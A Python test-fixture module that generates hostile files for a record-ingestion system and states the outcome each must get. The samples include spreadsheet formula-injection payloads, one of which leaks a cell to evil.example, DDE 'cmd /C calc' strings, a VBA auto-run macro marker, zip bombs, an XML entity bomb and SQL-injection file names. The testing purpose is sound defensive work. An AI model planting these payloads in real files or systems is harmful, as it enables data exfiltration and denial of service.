"""Hostile and broken source files, generated (never committed): each with the outcome LaoLink must give it.

Every :class:`Hostile` writes one file and says what must happen to it:

- ``rejected``: the whole file is refused (``ingested_files.status = 'rejected'``) with ``reason``;
- ``quarantined``: the listed (line, field) rows are quarantined with ``reason``, the others stored;
- ``std_issue``: the row is stored raw, and standardization lists ``field`` in ``std_issues`` with ``reason``;
- ``stored``: the file is harmless once read correctly (all rows stored, raw values kept).
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import os
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

from linkage.sources.exchange_format import EXCHANGE_COLUMNS

HEADER = list(EXCHANGE_COLUMNS)
SOURCE = "HOSTILE-TEST"


def row(record_id: str, **fields: str) -> list[str]:
    values = {"record_id": record_id, "source": SOURCE, **fields}
    return [values.get(c, "") for c in HEADER]


def csv_text(rows: list[list[str]], header: list[str] = HEADER) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


@dataclass(frozen=True)
class Hostile:
    name: str  # file name (its extension decides CSV or XLSX; the exchange mapping claims it)
    make: Callable[[Path], None]
    outcome: str  # rejected | quarantined | std_issue | stored
    reason: str = ""  # substring of the reason given
    bad: tuple[tuple[int | None, str | None], ...] = ()  # quarantined (line, field) or std_issue (record_id, field)
    stored: tuple[str, ...] = ()  # record_ids that must be stored
    note: str = ""
    raw: dict[str, str] = field(default_factory=dict)  # record_id -> full_name stored untouched


def _write(text: str, encoding: str = "utf-8", prefix: bytes = b"") -> Callable[[Path], None]:
    return lambda p: p.write_bytes(prefix + text.encode(encoding))


def _bom_in_the_middle(path: Path) -> None:
    text = csv_text([row("BOM-1", full_name="\ufeffBouasy"), row("BOM-2", full_name="Noy")])
    path.write_bytes(text.encode("utf-8") + codecs.BOM_UTF8 + csv_text([row("BOM-3")]).split("\n", 1)[1].encode())


def _huge_cell(path: Path) -> None:
    with path.open("w", encoding="utf-8", newline="") as f:
        f.write(",".join(HEADER) + "\n")
        f.write(",".join(row("BIG-1")) + "\n")
        f.write(",".join(row("BIG-2", village="x" * (10 << 20))) + "\n")


def _wide_header(path: Path) -> None:
    extra = [f"extra_{i}" for i in range(100_000 - len(HEADER))]
    with path.open("w", encoding="utf-8", newline="") as f:
        f.write(",".join(HEADER + extra) + "\n")
        f.write(",".join(row("WIDE-1", full_name="Khamla") + [""] * len(extra)) + "\n")


def _wide_row(path: Path) -> None:
    path.write_text(csv_text([row("ROW-1"), row("ROW-2") + ["z"] * (100_000 - len(HEADER))]), encoding="utf-8")


def _xlsx(rows: list[list[object]], header: list[str] = HEADER) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        book = openpyxl.Workbook()
        ws = book.active
        ws.append(header)
        for r in rows:
            ws.append(r)
        book.save(path)

    return make


def _excel_oddities(path: Path) -> None:
    """Error cells, a date cell of 0 (Excel's 00/01/1900, read as a time), a date in 2999, huge and negative ages."""
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(HEADER)
    ws.append(row("XO-1", full_name="#DIV/0!", date_of_birth=dt.datetime(2999, 1, 1)))  # type: ignore[arg-type]
    ws.append(row("XO-2", full_name="Noy", date_of_birth=0, age=1e308))  # type: ignore[arg-type]
    ws.cell(3, HEADER.index("date_of_birth") + 1).number_format = "dd/mm/yyyy"
    ws.append(row("XO-3", full_name="#REF!", age=-3))  # type: ignore[arg-type]
    ws.cell(4, HEADER.index("full_name") + 1).data_type = "e"
    book.save(path)


def _xlsm_with_macro(path: Path) -> None:
    _xlsx([row("VBA-1", full_name="Bouasy")])(path)
    with zipfile.ZipFile(path, "a") as z:
        z.writestr("xl/vbaProject.bin", MACRO_MARKER + b"\0" * 512)


MACRO_MARKER = b"Sub Auto_Open() Shell(\"calc.exe\") End Sub LAOLINK-MACRO-MARKER"


def _zip_bomb_lying_size(path: Path) -> None:
    """A sheet that declares 2 KB in the zip directory but inflates to 40 MB."""
    good = io.BytesIO()
    _xlsx([row("LIE-1")])(good)  # type: ignore[arg-type]
    src = zipfile.ZipFile(good)
    bomb = b"<sheetData>" + b" " * (40 << 20) + b"</sheetData>"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = bomb if info.filename == "xl/worksheets/sheet1.xml" else src.read(info.filename)
            z.writestr(info.filename, data)
    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
    struct.pack_into("<I", raw, info.header_offset + 22, 2048)  # local header: uncompressed size
    central = raw.find(b"PK\x01\x02")
    while central != -1:
        name_len = struct.unpack_from("<H", raw, central + 28)[0]
        if raw[central + 46:central + 46 + name_len] == b"xl/worksheets/sheet1.xml":
            struct.pack_into("<I", raw, central + 24, 2048)
            break
        central = raw.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(raw))


def _billion_laughs(path: Path) -> None:
    """An XML entity bomb in the sheet: 10^7 'lol's (30 MB) if a parser expanded it, refused by expat."""
    _xlsx([row("XML-1")])(path)
    entities = "".join(f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 8))
    src = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                text = data.decode().replace("<t>XML-1</t>", "<t>&l7;</t>")
                data = f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "lol">{entities}]>{text}'.encode()
            z.writestr(info.filename, data)


def _zip_bomb(path: Path) -> None:
    """The classic: a 200 MB sheet of one repeated byte, 200 KB compressed, named .xlsx."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", b"<" * (200 << 20))


FORMULAS = {
    "FX-1": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "FX-2": "+cmd|' /C calc'!A0",
    "FX-3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "FX-4": "-2+3",
    "FX-5": "\t=1+1",
}


def _formula_rows() -> list[list[str]]:
    # The formula is the record_id (exported as is) and the name (kept raw in the store).
    # (a formula as the source is no source code: quarantined, see tests/test_ingest_row_rules.py)
    return [row(v, full_name=v, source=SOURCE) for v in FORMULAS.values()]


def _zip_name_flagged_utf8(path: Path) -> None:
    """A workbook whose zip directory flags a member name as UTF-8 when its bytes are not."""
    _xlsx([row("ZU-1")])(path)
    data = bytearray(path.read_bytes())
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<H", data, central + 8, struct.unpack_from("<H", data, central + 8)[0] | 0x800)
    data[central + 46] = 0xFF
    path.write_bytes(bytes(data))


BORDER_HEADER = ["Ref No", "Surname", "Given names", "Sex", "Date of Birth", "Nationality", "Passport No",
                 "Place of Birth", "Phone", "Date of Entry"]


def _border_dates(path: Path) -> None:
    """The border checkpoint's own mapping (UTF-16, birth date mandatory): impossible dates quarantine the row."""
    rows = [["HB-1", "PHOMMA", "Noy", "F", "1990-05-04", "LAO", "P1234567", "Savannakhet", "", "2024-01-02"]]
    rows += [[f"HB-{i}", "PHOMMA", "Noy", "F", dob, "LAO", "", "", "", "2024-01-02"]
             for i, dob in enumerate(["31/02/2001", "00/00/0000", "2999-01-01", "", "-5"], start=2)]
    path.write_bytes(codecs.BOM_UTF16_LE + csv_text(rows, header=BORDER_HEADER).encode("utf-16-le"))


def corpus() -> list[Hostile]:
    """The hostile files, each with the outcome it must have."""
    latin1 = csv_text([row("L1-1", full_name="José Müller", village="Nông Bôn")])
    return [
        Hostile("latin1_declared_utf8.csv", _write(latin1, "latin-1"), "rejected",
                "is not UTF-8, UTF-16 or Thai Windows-874 text",
                note="Latin-1 bytes that are not valid Windows-874 either (0x80 and 0xFC-0xFF)"),
        Hostile("cp1252_quotes.csv", _write(csv_text([row("W-1", full_name="\u201cNoy\u201d \u20ac")]), "cp1252"),
                "stored", stored=("W-1",), raw={"W-1": "\u201cNoy\u201d \u20ac"},
                note="Windows-1252 quotes and euro sign have the same bytes in Windows-874: read right"),
        Hostile("cp1252_accents.csv", _write(csv_text([row("W-2", full_name="José Ramírez")]), "cp1252"),
                "rejected", "Latin-1/Windows-1252 text? Save it as UTF-8",
                note="é and í are Thai marks in Windows-874: the file must not be read as Thai"),
        Hostile("shift_jis.csv", _write(csv_text([row("SJ-1", full_name="山田太郎")]), "shift_jis"),
                "rejected", "is not UTF-8, UTF-16 or Thai Windows-874 text"),
        Hostile("mixed_scripts.csv", _write(csv_text([
            row("MX-1", full_name="Bouasy ທຳມະສັກ สมพอน", given_name="ບົວສີ", family_name="Thammasack"),
            row("MX-2", full_name="Сомсак ทำมะ Ωmega 山田 \u202eevil\u202c", sex="ຍິງ"),
            row("MX-3", full_name="B\u0301o\u0308u\u200basy\u200d", village="ບ້ານ\u00a0ໂນນ"),
        ])), "stored", stored=("MX-1", "MX-2", "MX-3"),
            raw={"MX-2": "Сомсак ทำมะ Ωmega 山田 \u202eevil\u202c"}),
        Hostile("bom_in_odd_places.csv", _bom_in_the_middle, "stored", stored=("BOM-1", "BOM-2", "BOM-3"),
                raw={"BOM-1": "\ufeffBouasy"},
                note="a BOM inside a cell is kept raw; one glued to a record_id is not part of the key"),
        Hostile("nul_bytes.csv", _write(csv_text([row("NUL-1"), row("NUL-2", full_name="Noy\x00\x00x"),
                                                  row("NUL-3", phone="020\x005555")])),
                "quarantined", "contains a NUL byte", bad=((3, "full_name"), (4, "phone")), stored=("NUL-1",)),
        Hostile("ten_mb_cell.csv", _huge_cell, "rejected", "a cell over 1,048,576 characters",
                note="a 10 MB cell is over the reader's 1 MB field cap: the file is refused, not truncated"),
        Hostile("long_cell.csv", _write(csv_text([row("LC-1"), row("LC-2", full_name="ບົວ" * 5000)])),
                "quarantined", "over the limit of 4096", bad=((3, "full_name"),), stored=("LC-1",)),
        Hostile("hundred_thousand_columns.csv", _wide_header, "stored", stored=("WIDE-1",),
                note="99,984 unmapped columns are reported as ignored and not stored"),
        Hostile("hundred_thousand_cells_row.csv", _wide_row, "quarantined", "more columns than the header: 100000",
                bad=((3, None),), stored=("ROW-1",)),
        Hostile("ragged.csv", _write(csv_text([row("RG-1"), row("RG-2")[:3], row("RG-3"), ["RG-4"]])),
                "quarantined", "ragged line", bad=((3, None), (5, None)), stored=("RG-1", "RG-3")),
        # keys lose their outer blanks (the tab before FX-5's =1+1); the name keeps its raw value
        Hostile("formulas.csv", _write(csv_text(_formula_rows())), "stored",
                stored=tuple(v.strip() for v in FORMULAS.values()),
                raw={v.strip(): v for v in FORMULAS.values()}),
        Hostile("formulas.xlsx", _xlsx([row("XF-1", full_name="=HYPERLINK(\"http://evil.example\",\"x\")"),
                                        row("=1+2", full_name="Noy")]),
                "quarantined", "no record_id", bad=((3, "record_id"),), stored=("XF-1",),
                note="a formula cell is read as its cached value (none: empty), never evaluated"),
        Hostile("macro.xlsm", _xlsm_with_macro, "rejected", "macro",
                note="a workbook with a VBA project is refused; the macro is never run or stored"),
        Hostile("zip_bomb.xlsx", _zip_bomb, "rejected", "(a zip bomb?)"),
        Hostile("zip_bomb_lying_size.xlsx", _zip_bomb_lying_size, "rejected", "cannot be opened as an XLSX workbook"),
        Hostile("billion_laughs.xlsx", _billion_laughs, "rejected", "unrecognized entity"),  # calamine: no entities
        Hostile("excel_oddities.xlsx", _excel_oddities, "std_issue", "",
                bad=(("XO-1", "date_of_birth"), ("XO-2", "age"), ("XO-2", "date_of_birth"), ("XO-3", "age")),
                stored=("XO-1", "XO-2", "XO-3"), raw={"XO-1": "#DIV/0!", "XO-3": "#REF!"}),
        Hostile("'; DROP TABLE records; --.csv", _write(csv_text([row("SQL-1", full_name="Robert'); DROP TABLE")])),
                "stored", stored=("SQL-1",), raw={"SQL-1": "Robert'); DROP TABLE"},
                note="a file name and a cell written as SQL are only ever bound as parameters"),
        Hostile("ບັນຊີ ລາຍຊື່ 2024 (copy).csv", _write(csv_text([row("LAO-1", full_name="ບົວສີ")])), "stored",
                stored=("LAO-1",)),
        Hostile("hostile_border_fb1.csv", _border_dates, "quarantined", "",
                bad=((3, "date_of_birth"), (4, "date_of_birth"), (5, "date_of_birth"), (6, "date_of_birth"),
                     (7, "date_of_birth")), stored=("HB-1",)),
        Hostile("zip_name_not_utf8.xlsx", _zip_name_flagged_utf8, "rejected", "damaged zip archive"),
        Hostile("not_a_zip.xlsx", _write(csv_text([row("NZ-1")])), "rejected", "not a zip archive"),
        Hostile("binary_garbage.csv", lambda p: p.write_bytes(os.urandom(64 << 10)), "rejected",
                "is not UTF-8, UTF-16 or Thai Windows-874 text"),
        Hostile("binary_garbage.xlsx", lambda p: p.write_bytes(b"PK\x03\x04" + os.urandom(4096)), "rejected",
                "not a zip archive"),
        Hostile("empty.csv", lambda p: p.write_bytes(b""), "rejected", "is empty: no header row"),
        Hostile("whitespace_only.csv", lambda p: p.write_bytes(b"\n \n\t\n"), "rejected", "is empty: no header row"),
        Hostile("header_only.csv", _write(csv_text([])), "stored", note="a header and no rows: 0 read, nothing to do"),
        Hostile("header_only.xlsx", _xlsx([]), "stored"),
        Hostile("impossible_dates.csv", _write(csv_text([
            row("D-1", date_of_birth="31/02/2001"),
            row("D-2", date_of_birth="00/00/0000"),
            row("D-3", date_of_birth="32/13/1999"),
            row("D-4", event_date="2019-02-29"),
        ])), "std_issue", "",
            bad=(("D-1", "date_of_birth"), ("D-2", "date_of_birth"), ("D-3", "date_of_birth"),
                 ("D-4", "event_date")), stored=("D-1", "D-2", "D-3", "D-4")),
        Hostile("future_births.csv", _write(csv_text([
            row("F-1", date_of_birth="01/01/2999"), row("F-2", date_of_birth="15/03/2590"),
        ])), "std_issue", "future",
            bad=(("F-1", "date_of_birth"), ("F-2", "date_of_birth")), stored=("F-1", "F-2")),
        Hostile("negative_ages.csv", _write(csv_text([
            row("A-1", age="-5", event_date="2019-03-01"), row("A-2", age="-0.5"), row("A-3", age="999"),
        ])), "std_issue", "", bad=(("A-1", "age"), ("A-2", "age"), ("A-3", "age")), stored=("A-1", "A-2", "A-3")),
    ]
